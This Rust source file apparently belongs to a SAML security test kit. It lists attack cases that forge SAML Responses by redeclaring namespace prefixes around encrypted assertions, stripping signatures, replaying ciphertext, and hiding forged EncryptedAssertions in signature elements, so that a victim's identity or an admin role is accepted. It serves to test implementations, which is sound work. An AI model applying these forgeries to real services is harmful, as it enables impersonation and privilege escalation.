//! Attacks with decrypted content of which nobody signed all or a part: the whole content, or the meaning of its
//! prefixes. Exclusive canonicalization omits declarations that an element does not visibly use. Prefixes inside a
//! ciphertext are not visible, so anybody can change their declarations around it.

use vouchsafe_xml::namespace::SAML_ASSERTION;

use super::scene::{Made, Scene};
use super::signature::{Draft, signed_as_it_stands, x509};
use super::surgery::{after, append, before, copy, replace, root, with_attribute, without};
use super::wrapping::object;
use super::{Attack, Base, Kind, Needs};
use crate::{Attribute, ResponseBuilder, Signed, TestkitError};

const UNSIGNED: &str = "CVE-2026-18108 (Net::SAML2), CVE-2026-2092 (Keycloak)";
const FOREIGN: &str = "urn:example:x";
const SEALED: [&str; 2] = ["Response", "EncryptedAssertion"];
const ASSERTION: [&str; 2] = ["Response", "Assertion"];
const SIGNATURE: [&str; 2] = ["Response", "Signature"];

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Made) -> Attack {
    Attack::new(name, Kind::Encryption, description, make)
        .from(Base::EncryptedInside)
        .needs(&[Needs::Certificate])
        .known_as(UNSIGNED)
}

pub(super) const ATTACKS: &[Attack] = &[
    row(
        "decrypted/namespace-name-id",
        "x:NameID of the victim inside, the namespace of x changed around it",
        |scene| {
            let signed = sealed(scene, plain(scene), Around::Response, |assertion| {
                let name = format!("<x:NameID>{}</x:NameID>", scene.victim());
                before(assertion, &["Assertion", "Subject", "NameID"], &name)
            })?;
            Ok(vec![scene.bent(declared_anew(&signed))])
        },
    ),
    row("decrypted/namespace-name-id-envelope", "the same, declared on the EncryptedAssertion", |scene| {
        let signed = sealed(scene, plain(scene), Around::Encrypted, |assertion| {
            let name = format!("<x:NameID>{}</x:NameID>", scene.victim());
            before(assertion, &["Assertion", "Subject", "NameID"], &name)
        })?;
        Ok(vec![scene.bent(declared_anew(&signed))])
    }),
    row("decrypted/namespace-name-id-alone", "x:NameID of the victim is the only one inside", |scene| {
        let signed = sealed(scene, plain(scene), Around::Response, |assertion| {
            let name = format!("<x:NameID>{}</x:NameID>", scene.victim());
            replace(assertion, &["Assertion", "Subject", "NameID"], &name)
        })?;
        Ok(vec![scene.hostile(declared_anew(&signed))])
    }),
    row(
        "decrypted/namespace-attribute",
        "x:Attribute inside, the namespace of x changed around it",
        |scene| {
            let signed = sealed(scene, with_role(scene), Around::Response, |assertion| {
                let role = "<x:Attribute Name=\"kit.role\"><saml2:AttributeValue>kit.admin</saml2:AttributeValue></x:Attribute>";
                append(assertion, &["Assertion", "AttributeStatement"], role)
            })?;
            Ok(vec![scene.bent(declared_anew(&signed)).forging("kit.admin")])
        },
    ),
    row(
        "decrypted/namespace-attribute-value",
        "x:AttributeValue inside, the namespace of x changed around it",
        |scene| {
            let signed = sealed(scene, with_role(scene), Around::Response, |assertion| {
                let value = "<x:AttributeValue>kit.admin</x:AttributeValue></saml2:Attribute></saml2:AttributeStatement>";
                Ok(assertion.replace("</saml2:Attribute></saml2:AttributeStatement>", value))
            })?;
            Ok(vec![scene.bent(declared_anew(&signed)).forging("kit.admin")])
        },
    ),
    row(
        "decrypted/namespace-statement",
        "x:AttributeStatement inside, the namespace of x changed around it",
        |scene| {
            let signed = sealed(scene, plain(scene), Around::Response, |assertion| {
                let role = "<x:AttributeStatement><saml2:Attribute Name=\"kit.role\"><saml2:AttributeValue>kit.admin\
                        </saml2:AttributeValue></saml2:Attribute></x:AttributeStatement>";
                append(assertion, &["Assertion"], role)
            })?;
            Ok(vec![scene.bent(declared_anew(&signed)).forging("kit.admin")])
        },
    ),
    row(
        "decrypted/namespace-audience",
        "x:AudienceRestriction is ours, and x becomes what makes it count",
        |scene| {
            let elsewhere = plain(scene).audience_restrictions(Vec::<Vec<String>>::new());
            let signed = sealed(scene, elsewhere, Around::Response, |assertion| {
                let ours = format!(
                    "<x:AudienceRestriction><saml2:Audience>{}</saml2:Audience></x:AudienceRestriction>",
                    scene.target().entity_id
                );
                append(assertion, &["Assertion", "Conditions"], &ours)
            })?;
            Ok(vec![scene.hostile(declared_anew(&signed))])
        },
    ),
    row(
        "decrypted/namespace-condition-taken-away",
        "x:AudienceRestriction for another service is made to count no longer",
        |scene| {
            let signed = sealed(scene, plain(scene), Around::Response, |assertion| {
                let other = "<x:AudienceRestriction><saml2:Audience>https://other.example/saml/metadata\
                         </saml2:Audience></x:AudienceRestriction>";
                append(assertion, &["Assertion", "Conditions"], other)
            })?;
            // With the declaration of the identity provider, the element is valid.
            let signed = declared_anew(&signed);
            let signed = resigned(scene, &signed)?;
            let away =
                signed.replace(&format!("xmlns:x=\"{SAML_ASSERTION}\""), &format!("xmlns:x=\"{FOREIGN}\""));
            Ok(vec![scene.hostile(away)])
        },
    ),
    row(
        "decrypted/namespace-default",
        "a NameID without prefix inside, a default namespace put around it",
        |scene| {
            let signed = sealed(scene, plain(scene), Around::Response, |assertion| {
                let name = format!("<NameID>{}</NameID>", scene.victim());
                before(assertion, &["Assertion", "Subject", "NameID"], &name)
            })?;
            Ok(vec![scene.bent(with_attribute(
                &signed,
                &["Response"],
                &format!("xmlns=\"{SAML_ASSERTION}\""),
            )?)])
        },
    ),
    row(
        "decrypted/namespace-encrypted-id",
        "x:NameID in an EncryptedID, the namespace of x changed around it",
        |scene| {
            inside(
                scene,
                &format!("<x:NameID>{}</x:NameID>", scene.victim()),
                "EncryptedID",
                |xml, sealed| replace(xml, &["Response", "Assertion", "Subject", "NameID"], sealed),
            )
        },
    )
    .from(Base::Assertion),
    row(
        "decrypted/namespace-encrypted-attribute",
        "x:Attribute in an EncryptedAttribute, the namespace of x changed around it",
        |scene| {
            let role =
                "<x:Attribute Name=\"kit.role\"><x:AttributeValue>kit.admin</x:AttributeValue></x:Attribute>";
            inside(scene, role, "EncryptedAttribute", |xml, sealed| {
                let statement = format!("<saml2:AttributeStatement>{sealed}</saml2:AttributeStatement>");
                append(xml, &["Response", "Assertion"], &statement)
            })
        },
    )
    .from(Base::Assertion),
    row(
        "decrypted/encrypted-id",
        "an EncryptedID of the victim's by the attacker in a signed Assertion",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            let name =
                format!("<saml2:NameID xmlns:saml2=\"{SAML_ASSERTION}\">{}</saml2:NameID>", scene.victim());
            let sealed = scene.encrypted(&name)?.replace("EncryptedAssertion", "EncryptedID");
            Ok(vec![scene.hostile(replace(
                &issued,
                &["Response", "Assertion", "Subject", "NameID"],
                &sealed,
            )?)])
        },
    )
    .from(Base::Assertion),
    row(
        "decrypted/stripped",
        "the signature of the Response taken away, the Assertion inside not signed",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            Ok(vec![scene.hostile(without(&issued, &SIGNATURE)?)])
        },
    ),
    row("decrypted/other-message", "the ciphertext of another signed Response, about the victim", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let captured = copy(scene.message_about(scene.victim()).issue()?.xml(), &SEALED)?;
        Ok(vec![scene.hostile(replace(&issued, &SEALED, &captured)?)])
    }),
    row(
        "decrypted/other-message-unsigned",
        "the ciphertext of a signed Response, without its signature, in another",
        |scene| {
            let captured = copy(scene.message_about(scene.victim()).issue()?.xml(), &SEALED)?;
            let shell = plain(scene).issue()?.into_xml();
            Ok(vec![scene.hostile(replace(&shell, &ASSERTION, &captured)?)])
        },
    ),
    row(
        "decrypted/in-object",
        "a forged EncryptedAssertion in a ds:Object of the Response's signature",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            Ok(vec![scene.bent(append(&issued, &SIGNATURE, &object(&forged(scene)?))?)])
        },
    ),
    row(
        "decrypted/in-key-info",
        "a forged EncryptedAssertion in the KeyInfo of the Response's signature",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            Ok(vec![scene.bent(append(&issued, &["Response", "Signature", "KeyInfo"], &forged(scene)?)?)])
        },
    ),
    row(
        "decrypted/beside-signed",
        "a forged EncryptedAssertion before a signed Assertion in clear",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            Ok(vec![scene.bent(before(&issued, &ASSERTION, &forged(scene)?)?)])
        },
    )
    .from(Base::Assertion),
];

/// The element that declares the prefix.
#[derive(Clone, Copy)]
enum Around {
    Response,
    Encrypted,
}

/// Returns a message about the attacker, unencrypted and unsigned.
fn plain(scene: &Scene<'_>) -> ResponseBuilder {
    scene.message_of(&scene.target().identity_provider, scene.attacker()).sign(Signed::Neither)
}

fn with_role(scene: &Scene<'_>) -> ResponseBuilder {
    plain(scene).attribute(Attribute::new("kit.role", ["kit.member"]))
}

/// Returns a signed Response with an encrypted Assertion that was changed. The prefix `x` is declared only around it.
fn sealed(
    scene: &Scene<'_>,
    message: ResponseBuilder,
    around: Around,
    change: impl FnOnce(&str) -> Result<String, TestkitError>,
) -> Result<String, TestkitError> {
    let unsigned = message.issue()?.into_xml();
    let declaration = format!("xmlns:x=\"{FOREIGN}\"");
    // The functions that change it parse the text, so the prefix is declared there too, temporarily.
    let assertion = with_attribute(&copy(&unsigned, &ASSERTION)?, &["Assertion"], &declaration)?;
    let assertion = change(&assertion)?.replacen(&format!(" {declaration}"), "", 1);
    let response = replace(&unsigned, &ASSERTION, &scene.encrypted(&assertion)?)?;
    let path: &[&str] = match around {
        Around::Response => &["Response"],
        Around::Encrypted => &SEALED,
    };
    with_signature(scene, &with_attribute(&response, path, &declaration)?)
}

fn with_signature(scene: &Scene<'_>, response: &str) -> Result<String, TestkitError> {
    let key = scene.target().identity_provider.key();
    let signature =
        Draft::over(root(response))?.key_info(&x509(&[key.certificate()])).signed_by(key.private_key())?;
    after(response, &["Response", "Issuer"], &signature)
}

fn resigned(scene: &Scene<'_>, signed: &str) -> Result<String, TestkitError> {
    with_signature(scene, &without(signed, &SIGNATURE)?)
}

/// Returns the message with another namespace for the prefix than when it was signed.
fn declared_anew(signed: &str) -> String {
    signed.replace(&format!("xmlns:x=\"{FOREIGN}\""), &format!("xmlns:x=\"{SAML_ASSERTION}\""))
}

/// Returns a signed Assertion that contains an encrypted element. The prefix `x` is declared only on the Response.
fn inside(
    scene: &Scene<'_>,
    text: &str,
    name: &str,
    place: impl FnOnce(&str, &str) -> Result<String, TestkitError>,
) -> Made {
    let unsigned = plain(scene).issue()?.into_xml();
    let sealed = scene.encrypted(text)?.replace("EncryptedAssertion", name);
    let signed = signed_as_it_stands(scene, &place(&unsigned, &sealed)?)?;
    let declared = with_attribute(&signed, &["Response"], &format!("xmlns:x=\"{SAML_ASSERTION}\""))?;
    Ok(vec![scene.hostile(declared).forging("kit.admin")])
}

fn forged(scene: &Scene<'_>) -> Result<String, TestkitError> {
    let forged = scene
        .message_of(&scene.target().identity_provider, scene.victim())
        .assertion_id(format!("{}.forged", scene.assertion_id()))
        .sign(Signed::Neither)
        .issue()?;
    scene.encrypted(&copy(forged.xml(), &ASSERTION)?)
}
